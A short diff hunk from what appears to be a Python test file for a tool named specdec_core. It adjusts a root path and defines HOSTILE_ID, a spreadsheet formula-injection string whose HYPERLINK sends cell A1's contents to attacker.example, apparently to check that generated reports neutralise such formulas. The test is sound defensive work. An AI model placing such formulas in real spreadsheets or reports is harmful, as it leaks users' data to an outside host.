@@ -17,7 +17,7 @@ from specdec_core.cli import main
 from specdec_core.store.connection import Store
 from specdec_core.store.ingest import ingest
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[2]
 HOSTILE_ID = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
 
 # --- spreadsheet formulas in the report ----------------------------------------------------------------------
